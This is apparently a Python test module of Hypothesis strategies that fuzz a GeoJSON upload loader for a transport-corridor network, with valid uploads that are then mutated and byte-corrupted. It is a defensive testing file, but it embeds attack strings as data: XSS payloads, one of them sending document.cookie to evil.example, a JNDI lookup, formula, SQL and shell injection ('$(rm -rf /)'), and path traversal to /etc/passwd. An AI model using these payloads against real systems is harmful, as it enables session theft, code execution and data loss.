"""Hypothesis strategies for GeoJSON uploads: valid ones built on the real network, then broken.

- :func:`valid_uploads` builds a FeatureCollection that attaches to the bundled
  network: new nodes near real ones, legs from real nodes to them and between
  real nodes, every property drawn from the schema, names with unicode and
  HTML/script payloads; a sea or ferry leg only where its line stays at sea,
  a published distance within the accepted ratio of the line. It always loads (``test_valid_uploads_load`` checks
  the generator itself).
- :func:`hostile_uploads` takes such a document and breaks it: drop or rename
  keys, wrong types, NaN/Infinity/1e308 and out-of-range coordinates, swapped
  lat/lon, huge strings, deep nesting, duplicate ids, dangling ``from``/``to``,
  non-object features, extra junk, payloads, and the inputs of issue 12
  (published distances of 1e308 or 1e-300, a sea leg straight across Eurasia,
  an id differing from a real one only in case at the same place, invisible
  names, bidi controls); then serialises it and maybe
  breaks the bytes (truncated JSON, bytes that are not UTF-8, a BOM, UTF-16,
  padding past the size limit).

Raw JSON text that :func:`json.dumps` cannot write (deep nesting, ``1e999``,
a number with 5,000 digits) is put in the document as a placeholder string
and substituted after serialisation.
"""

from __future__ import annotations

import copy
import functools
import json
import math
import unicodedata
from dataclasses import dataclass, field
from typing import Any

from hypothesis import strategies as st

from corridors.network import schema

# --------------------------------------------------------------------------
# the real network


@dataclass(frozen=True)
class BaseNode:
    id: str
    name: str
    country: str
    kind: str
    x: float
    y: float


@functools.cache
def base_nodes() -> tuple[BaseNode, ...]:
    from corridors.network.loader import load_network

    nodes = load_network().nodes
    return tuple(
        BaseNode(str(i), str(r.name), str(r.country), str(r.kind), float(r.x), float(r.y))
        for i, r in zip(nodes.index, nodes.itertuples(index=False), strict=True)
    )


# --------------------------------------------------------------------------
# text

PAYLOADS = (
    "<img src=x onerror=alert(1)>",
    "<script>alert('xss')</script>",
    '"><svg/onload=alert(document.cookie)>',
    "javascript:alert(1)",
    "<a href=\"javascript:alert(1)\">click</a>",
    "</script><script>fetch('//evil.example/'+document.cookie)</script>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "{{7*7}} ${7*7} #{7*7}",
    "${jndi:ldap://evil.example/a}",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1+1)",
    "'; DROP TABLE legs; --",
    "__import__('os').system('id')",
    "eval(compile('import os','x','exec'))",
    "$(rm -rf /)",
    "`id`",
    "; cat /etc/passwd",
    "../../../../etc/passwd",
    "C:\\Windows\\System32\\cmd.exe",
    "%s%s%s%n",
    "**bold** _it_ [link](javascript:alert(1)) ![img](x)",
    "\u202eevil.exe\u202dfdp.geojson",
    "Порт Восточный",
    "बंदर अब्बास",
    "بندر عباس",
    "港口 🚢 ⚓",
    "Zero\u200bwidth\u200djoin",
    "a" * schema.MAX_TEXT_LENGTH,
)

BAD_TEXT = (
    "",
    "   ",
    "\u200b\u200b",  # two zero-width spaces: nothing visible
    "\u3164",
    "Moscow \u202e(evil)",  # a right-to-left override
    "\u2067isolate\u2069",
    "mark\u200f",
    "a" * (schema.MAX_TEXT_LENGTH + 1),
    "line\nbreak",
    "nul\x00byte",
    "escape \x1b[31mred\x1b[0m",
    "bell\x07",
    "\ud800 lone surrogate",
    "\udfff",
)

def _acceptable(text: str) -> bool:
    """Text the schema accepts: something visible, no bidi control."""
    from corridors.network.properties import BIDI_CONTROLS

    visible = any(unicodedata.category(c)[0] in "LNPS" and c not in "\u115f\u1160\u3164\uffa0\u2800" for c in text)
    return bool(text.strip()) and visible and not BIDI_CONTROLS & set(text)


texts = st.one_of(
    st.sampled_from([p for p in PAYLOADS if _acceptable(p)]),
    st.text(st.characters(codec="utf-8", exclude_categories=("Cc", "Cs")), min_size=1, max_size=40).filter(
        _acceptable
    ),
)
"""Valid text properties: payloads (data, not errors), unicode."""

any_text = st.one_of(texts, st.sampled_from(BAD_TEXT + PAYLOADS), st.text(max_size=30))
"""Any text, including what the schema rejects."""

file_names = st.one_of(
    st.sampled_from(
        (
            "upload.geojson",
            "instc.geojson",
            "connections.geojson",
            "../../etc/passwd",
            "/etc/shadow",
            "<img src=x onerror=alert(1)>.geojson",
            "\u202egnp.geojson",
            "a\x1b[2Jb.geojson",
            "new\nline.geojson",
            "x" * 5000,
        )
    ),
    st.text(max_size=30),
    st.none(),
)
"""Upload file names as a browser could send them (user-controlled)."""

# --------------------------------------------------------------------------
# a valid upload


def _point(node_id: str, name: str, country: str, kind: str, x: float, y: float, **extra: Any) -> dict[str, Any]:
    props = {"id": node_id, "name": name, "country": country, "kind": kind, "source": "fuzz", **extra}
    return {"type": "Feature", "properties": props, "geometry": {"type": "Point", "coordinates": [x, y]}}


def _line(start: tuple[float, float], end: tuple[float, float], inner: int) -> list[list[float]]:
    # Straight in lon/lat; enough inner points that no step jumps 180° of longitude.
    inner = max(inner, math.ceil(abs(end[0] - start[0]) / 90))
    steps = inner + 1
    return [
        [start[0] + (end[0] - start[0]) * i / steps, start[1] + (end[1] - start[1]) * i / steps]
        for i in range(steps + 1)
    ]


@st.composite
def _leg_properties(draw: st.DrawFn, leg_id: str, start: str, end: str, line: list[list[float]]) -> dict[str, Any]:
    from corridors.network.geodesy import length_km
    from corridors.network.physical import LAND_CROSSING_KM, PUBLISHED_RATIO

    mode = draw(st.sampled_from(schema.MODES))
    if mode in ("sea", "ferry") and _land_km(line) > LAND_CROSSING_KM:
        mode = draw(st.sampled_from(("rail", "road", "river")))  # a sea leg only where it stays at sea
    corridor = draw(st.sampled_from(schema.CORRIDORS))
    props: dict[str, Any] = {
        "id": leg_id,
        "from": start,
        "to": end,
        "mode": mode,
        "corridor": corridor,
        "status": draw(st.sampled_from(schema.STATUSES)),
        "source": draw(texts),
        "chokepoints": draw(st.lists(st.sampled_from(schema.CHOKEPOINTS), max_size=3, unique=True)),
    }
    if corridor == "instc":
        branch = draw(st.none() | st.sampled_from(schema.INSTC_BRANCHES))
    else:
        branch = draw(st.none() | texts)
    if branch is not None:
        props["branch"] = branch
    if mode == "rail":
        dual = draw(st.booleans())
        props["gauge_mm"] = schema.DUAL_GAUGE_MM if dual else draw(st.sampled_from(schema.GAUGES_MM))
        if dual or draw(st.booleans()):
            props["dual_gauge"] = dual
    season = draw(st.none() | st.sampled_from(schema.SEASONS))
    if season is not None:
        props["season"] = season
    if draw(st.booleans()):
        props["published_km"] = draw(st.floats(*PUBLISHED_RATIO)) * length_km(_shape(line))
        props["published_source"] = draw(texts)
    if draw(st.booleans()):
        props["ice_area"] = draw(st.from_regex(schema.SLUG_PATTERN, fullmatch=True).filter(lambda v: len(v) <= 40))
    if draw(st.booleans()):
        props["note"] = draw(texts)
    return props


@st.composite
def valid_uploads(draw: st.DrawFn) -> dict[str, Any]:
    """A FeatureCollection that loads onto the bundled network."""
    nodes = base_nodes()
    anchors = draw(st.lists(st.sampled_from(nodes), min_size=2, max_size=4, unique_by=lambda n: n.id))
    features: list[dict[str, Any]] = []
    legs: list[tuple[str, tuple[float, float], str, tuple[float, float]]] = []
    for number in range(draw(st.integers(0, 3))):
        anchor = anchors[number % len(anchors)]
        # within 0.6° of the anchor, in its country (the bundled nodes lie at most ~50 km outside
        # theirs): within corridors.network.placement.TOLERANCE_KM of that country
        dx = draw(st.floats(0.05, 0.6)) * draw(st.sampled_from((-1, 1)))
        dy = draw(st.floats(0.05, 0.6)) * draw(st.sampled_from((-1, 1)))
        x = min(max(anchor.x + dx, -179.5), 179.5)
        y = min(max(anchor.y + dy, -89.5), 89.5)
        node_id = f"ZZ-FUZZ-{number}"
        extra: dict[str, Any] = {}
        kind = draw(st.sampled_from(schema.NODE_KINDS))
        if kind == "strait" and draw(st.booleans()):
            extra["chokepoint"] = draw(st.sampled_from(schema.CHOKEPOINTS))
        if draw(st.booleans()):
            extra["note"] = draw(texts)
        country = draw(st.sampled_from((anchor.country, schema.SEA_COUNTRY)))
        features.append(_point(node_id, draw(texts), country, kind, x, y, **extra))
        legs.append((anchor.id, (anchor.x, anchor.y), node_id, (x, y)))
    if not legs or draw(st.booleans()):
        a, b = anchors[0], anchors[1]
        legs.append((a.id, (a.x, a.y), b.id, (b.x, b.y)))
    if draw(st.booleans()):  # a real node declared again, identically (how files connect)
        n = anchors[-1]
        features.append(_point(n.id, n.name, n.country, n.kind, n.x, n.y))
    for number, (start, p, end, q) in enumerate(legs):
        if draw(st.booleans()):  # either direction
            start, p, end, q = end, q, start, p
        coords = _line(p, q, draw(st.integers(0, 4)))
        props = draw(_leg_properties(f"FUZZ-LEG-{number}", start, end, coords))
        geometry = {"type": "LineString", "coordinates": coords}
        features.append({"type": "Feature", "properties": props, "geometry": geometry})
    order = draw(st.permutations(range(len(features))))
    return {"type": "FeatureCollection", "features": [features[i] for i in order]}


def _shape(line: list[list[float]]) -> Any:
    from shapely.geometry import LineString

    return LineString(line)


def _land_km(line: list[list[float]]) -> float:
    from corridors.network.land import land_crossings

    return max((c.km for c in land_crossings(_shape(line))), default=0.0)


# --------------------------------------------------------------------------
# breaking it


@dataclass
class Doc:
    """A document being broken, with raw JSON text to substitute after dumping."""

    data: Any
    raw: list[str] = field(default_factory=list)

    def raw_value(self, text: str) -> str:
        self.raw.append(text)
        return f"@@RAW{len(self.raw) - 1}@@"

    def dumps(self, *, ensure_ascii: bool, indent: int | None) -> str:
        text = json.dumps(self.data, allow_nan=True, ensure_ascii=ensure_ascii, indent=indent)
        for number, raw in enumerate(self.raw):
            text = text.replace(f'"@@RAW{number}@@"', raw)
        return text


def _slots(value: Any) -> list[tuple[Any, Any]]:
    """Every (container, key) in a document, depth-first."""
    found: list[tuple[Any, Any]] = []
    stack = [value]
    while stack:
        item = stack.pop()
        keys = list(item) if isinstance(item, dict) else range(len(item)) if isinstance(item, list) else ()
        for key in keys:
            found.append((item, key))
            stack.append(item[key])
    return found


def _pick(draw: st.DrawFn, slots: list[tuple[Any, Any]]) -> tuple[Any, Any] | None:
    return slots[draw(st.integers(0, len(slots) - 1))] if slots else None


def _features(doc: Doc) -> list[Any]:
    data = doc.data
    if isinstance(data, dict) and isinstance(data.get("features"), list):
        return data["features"]
    return []


def _dict_features(doc: Doc) -> list[dict[str, Any]]:
    return [f for f in _features(doc) if isinstance(f, dict)]


def _props(doc: Doc) -> list[dict[str, Any]]:
    return [f["properties"] for f in _dict_features(doc) if isinstance(f.get("properties"), dict)]


def _positions(doc: Doc) -> list[list[Any]]:
    found = []
    for feature in _dict_features(doc):
        geometry = feature.get("geometry")
        if not isinstance(geometry, dict):
            continue
        coords = geometry.get("coordinates")
        stack = [coords]
        while stack:
            item = stack.pop()
            if isinstance(item, list) and item and all(isinstance(v, int | float) for v in item):
                found.append(item)
            elif isinstance(item, list):
                stack.extend(item)
    return found


RAW_NUMBERS = ("1e999", "-1e999", "1E400", "-0", "0e0", "1e-400", "9" * 5000, "-" + "1" * 4400, "123456789" * 30)
SPECIAL_NUMBERS = (math.nan, math.inf, -math.inf, 1e308, -1e308, 181.0, -181.0, 91.0, -91.0, 360.0, 5e-324, 0.0)

json_junk = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(-(10**40), 10**40)
    | st.floats(allow_nan=True, allow_infinity=True)
    | any_text,
    lambda children: st.lists(children, max_size=4) | st.dictionaries(any_text, children, max_size=4),
    max_leaves=12,
)
"""Any JSON value, NaN and Infinity included."""


def _drop_key(draw: st.DrawFn, doc: Doc) -> None:
    slot = _pick(draw, [s for s in _slots(doc.data) if isinstance(s[0], dict)])
    if slot:
        del slot[0][slot[1]]


def _rename_key(draw: st.DrawFn, doc: Doc) -> None:
    slot = _pick(draw, [s for s in _slots(doc.data) if isinstance(s[0], dict)])
    if slot:
        container, key = slot
        how = draw(st.sampled_from(("upper", "short", "long", "space", "other")))
        new = {
            "upper": key.upper(),
            "short": key[:-1],
            "long": key + "s",
            "space": f" {key}",
            "other": draw(any_text),
        }[how]
        container[new] = container.pop(key)


def _wrong_type(draw: st.DrawFn, doc: Doc) -> None:
    slot = _pick(draw, _slots(doc.data))
    if slot:
        slot[0][slot[1]] = draw(json_junk)


def _bad_coordinate(draw: st.DrawFn, doc: Doc) -> None:
    positions = _positions(doc)
    if not positions:
        return
    position = positions[draw(st.integers(0, len(positions) - 1))]
    how = draw(st.sampled_from(("special", "raw", "swap", "shift", "short", "long", "type")))
    axis = draw(st.integers(0, len(position) - 1))
    if how == "special":
        position[axis] = draw(st.sampled_from(SPECIAL_NUMBERS))
    elif how == "raw":
        position[axis] = doc.raw_value(draw(st.sampled_from(RAW_NUMBERS)))
    elif how == "swap":
        position[:2] = position[1::-1]
    elif how == "shift":
        position[axis] += draw(st.sampled_from((180.0, -180.0, 360.0, 1e-9, 1e-5, 1.0)))
    elif how == "short":
        del position[1:]
    elif how == "long":
        position.extend(draw(st.lists(st.floats(allow_nan=True) | st.none(), min_size=1, max_size=3)))
    else:
        position[axis] = draw(json_junk)


def _huge_string(draw: st.DrawFn, doc: Doc) -> None:
    slot = _pick(draw, _slots(doc.data))
    if slot:
        size = draw(st.sampled_from((schema.MAX_TEXT_LENGTH + 1, 10_000, 200_000)))
        char = draw(st.sampled_from(("x", "é", "😀", "<", "\\", '"')))
        slot[0][slot[1]] = char * size


def _deep_nesting(draw: st.DrawFn, doc: Doc) -> None:
    slot = _pick(draw, _slots(doc.data))
    if slot:
        from corridors.network.read import MAX_DEPTH

        depth = draw(st.sampled_from((5, MAX_DEPTH - 8, MAX_DEPTH, MAX_DEPTH + 1, 999, 1_000, 100_000)))
        opener, closer = draw(st.sampled_from((("[", "]"), ('{"a":', "}"))))
        slot[0][slot[1]] = doc.raw_value(opener * depth + ("1" if opener != "[" else "") + closer * depth)


def _duplicate(draw: st.DrawFn, doc: Doc) -> None:
    features = _features(doc)
    if not features:
        return
    if draw(st.booleans()):  # the same feature twice
        features.append(copy.deepcopy(features[draw(st.integers(0, len(features) - 1))]))
        return
    props = _props(doc)  # one feature takes another's id
    if len(props) >= 2:
        a, b = draw(st.permutations(range(len(props))))[:2]
        props[a]["id"] = props[b].get("id")
    elif props:  # or a real node's / leg's id
        props[0]["id"] = draw(st.sampled_from([n.id for n in base_nodes()] + ["INSTC-SEA-NSA-HORMUZ"]))


def _dangling(draw: st.DrawFn, doc: Doc) -> None:
    legs = [p for p in _props(doc) if "from" in p]
    if legs:
        leg = legs[draw(st.integers(0, len(legs) - 1))]
        end = draw(st.sampled_from(("from", "to")))
        leg[end] = draw(st.sampled_from(("NOPE-NODE", "innsa", "INNSA ", "ZZ-FUZZ-9", *[n.id for n in base_nodes()])))


def _not_a_feature(draw: st.DrawFn, doc: Doc) -> None:
    features = _features(doc)
    if features:
        features[draw(st.integers(0, len(features) - 1))] = draw(json_junk)


def _extra_junk(draw: st.DrawFn, doc: Doc) -> None:
    targets = [doc.data, *_dict_features(doc), *_props(doc)]
    targets += [f["geometry"] for f in _dict_features(doc) if isinstance(f.get("geometry"), dict)]
    targets = [t for t in targets if isinstance(t, dict)]
    if targets:
        target = targets[draw(st.integers(0, len(targets) - 1))]
        key = draw(
            st.sampled_from(("crs", "bbox", "__proto__", "constructor", "id", "chokepoint", "nmae", "kinds", "x"))
            | any_text
        )
        target[key] = draw(json_junk)


def _payload(draw: st.DrawFn, doc: Doc) -> None:
    props = _props(doc)
    if props:
        target = props[draw(st.integers(0, len(props) - 1))]
        target[draw(st.sampled_from(("name", "note", "source", "branch", "id", "mode", "country")))] = draw(any_text)


def _geometry(draw: st.DrawFn, doc: Doc) -> None:
    features = _dict_features(doc)
    if not features:
        return
    feature = features[draw(st.integers(0, len(features) - 1))]
    geometry = feature.get("geometry")
    coords = geometry.get("coordinates") if isinstance(geometry, dict) else None
    how = draw(st.sampled_from(("type", "multi", "cut", "null", "collection")))
    if how == "type" and isinstance(geometry, dict):
        geometry["type"] = draw(
            st.sampled_from(("Point", "LineString", "MultiLineString", "Polygon", "MultiPoint", "point", ""))
        )
    elif how == "multi" and isinstance(geometry, dict):
        geometry.update(type="MultiLineString", coordinates=[coords, coords])
    elif how == "cut" and isinstance(geometry, dict):
        lat = draw(st.floats(-80, 80))
        geometry.update(type="MultiLineString", coordinates=[[[170.0, lat], [180.0, lat]], [[-180.0, lat], [-170.0, lat]]])
    elif how == "null":
        feature["geometry"] = None
    else:
        feature["geometry"] = {"type": "GeometryCollection", "geometries": [geometry]}


def _top_level(draw: st.DrawFn, doc: Doc) -> None:
    how = draw(st.sampled_from(("type", "empty", "feature", "array", "features-object")))
    data = doc.data if isinstance(doc.data, dict) else {}
    if how == "type":
        data["type"] = draw(st.sampled_from(("Feature", "featurecollection", "Topology", None)))
    elif how == "empty":
        data["features"] = []
    elif how == "feature":
        features = _features(doc)
        doc.data = features[0] if features else {}
    elif how == "array":
        doc.data = _features(doc)
    else:
        data["features"] = {str(i): f for i, f in enumerate(_features(doc))}


def _not_physical(draw: st.DrawFn, doc: Doc) -> None:
    """Issue 12: absurd distances, a sea leg across Eurasia, a near-duplicate node, invisible or bidi text."""
    props = _props(doc)
    legs = [p for p in props if "from" in p]
    how = draw(st.sampled_from(("published", "shortcut", "case-twin", "invisible", "bidi")))
    if how == "published" and legs:
        key = draw(st.sampled_from(("published_km", "published_nm")))
        legs[0][key] = draw(st.sampled_from((1e308, 1.7e308, 1e-300, 5e-324, 1e-6, 1e6, 4e4)))
    elif how == "shortcut":
        nsa, mow = (next(n for n in base_nodes() if n.id == i) for i in ("INNSA", "RUMOW"))
        leg = {
            "id": "FUZZ-SHORTCUT", "from": "INNSA", "to": "RUMOW", "mode": draw(st.sampled_from(("sea", "ferry"))),
            "corridor": "suez", "status": "operational", "source": "fuzz", "chokepoints": [],
        }
        line = {"type": "LineString", "coordinates": [[nsa.x, nsa.y], [mow.x, mow.y]]}
        _features(doc).append({"type": "Feature", "properties": leg, "geometry": line})
    elif how == "case-twin":
        n = draw(st.sampled_from(base_nodes()))
        twin = n.id.lower() if n.id != n.id.lower() else n.id.upper()
        _features(doc).append(_point(twin, n.name, n.country, n.kind, n.x + 0.001, n.y))
    elif props:
        target = props[draw(st.integers(0, len(props) - 1))]
        bad = ("\u200b\u200b", "\u3164", " \u200d ") if how == "invisible" else ("x\u202ey", "\u2066a\u2069", "\u061c")
        target[draw(st.sampled_from(("name", "note", "source", "published_source")))] = draw(st.sampled_from(bad))


MUTATIONS = (
    _not_physical,
    _drop_key,
    _rename_key,
    _wrong_type,
    _bad_coordinate,
    _huge_string,
    _deep_nesting,
    _duplicate,
    _dangling,
    _not_a_feature,
    _extra_junk,
    _payload,
    _geometry,
    _top_level,
)

NOT_UTF8 = (b"\xff", b"\xfe\xff", b"\xc3\x28", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\x80", b"\xc0\xaf", b"\x00")


@st.composite
def _serialise(draw: st.DrawFn, doc: Doc) -> bytes:
    text = doc.dumps(ensure_ascii=draw(st.booleans()), indent=draw(st.sampled_from((None, None, 1))))
    data = text.encode("utf-8", "surrogatepass")  # a lone surrogate stays (as bytes that are not UTF-8)
    how = draw(
        st.sampled_from(("plain",) * 8 + ("truncate", "insert", "flip", "bom", "utf16", "oversize", "whitespace"))
    )
    if how == "truncate":
        data = data[: draw(st.integers(0, len(data)))]
    elif how == "insert":
        at = draw(st.integers(0, len(data)))
        data = data[:at] + draw(st.sampled_from(NOT_UTF8) | st.binary(min_size=1, max_size=8)) + data[at:]
    elif how == "flip" and data:
        at = draw(st.integers(0, len(data) - 1))
        data = data[:at] + bytes([draw(st.integers(0, 255))]) + data[at + 1 :]
    elif how == "bom":
        data = b"\xef\xbb\xbf" + data
    elif how == "utf16":
        data = text.encode("utf-16", "surrogatepass")
    elif how == "oversize":
        from corridors.network.read import MAX_FILE_BYTES

        data += b" " * (MAX_FILE_BYTES + 1 - len(data))
    elif how == "whitespace":
        data = b" \t\r\n" + data + b"\n\n"
    return data


@st.composite
def hostile_docs(draw: st.DrawFn) -> Doc:
    """A valid upload with 0-4 mutations applied (not yet serialised)."""
    doc = Doc(draw(valid_uploads()))
    for mutation in draw(st.lists(st.sampled_from(MUTATIONS), max_size=4)):
        mutation(draw, doc)
    return doc


@st.composite
def hostile_uploads(draw: st.DrawFn) -> bytes:
    """The bytes of a possibly broken upload."""
    return draw(_serialise(draw(hostile_docs())))


def valid_upload_bytes() -> st.SearchStrategy[bytes]:
    return valid_uploads().map(lambda doc: json.dumps(doc, ensure_ascii=False).encode("utf-8"))
